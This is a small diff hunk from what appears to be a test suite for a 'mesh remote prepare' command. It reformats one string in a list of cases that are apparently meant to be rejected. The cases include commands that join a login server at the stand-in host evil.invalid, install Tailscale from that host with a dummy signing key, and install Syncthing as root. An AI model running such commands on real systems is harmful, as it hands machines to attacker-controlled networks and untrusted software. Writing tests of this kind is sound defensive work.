@@ -56,7 +56,7 @@ describeLab("mesh remote prepare", () => {
     ["another login server", "echo hskey-auth-x | COPY join --login-server http://evil.invalid --hostname h1"],
     [
       "another source",
-      "COPY install-tailscale --version 1.102.3 --source http://evil.invalid --signing-key " + "A".repeat(40),
+      `COPY install-tailscale --version 1.102.3 --source http://evil.invalid --signing-key ${"A".repeat(40)}`,
     ],
     ["another user's Syncthing", "COPY install-syncthing --user root --gui-port 8384"],
     ["a verb of preparing", "COPY prepare --undo"],
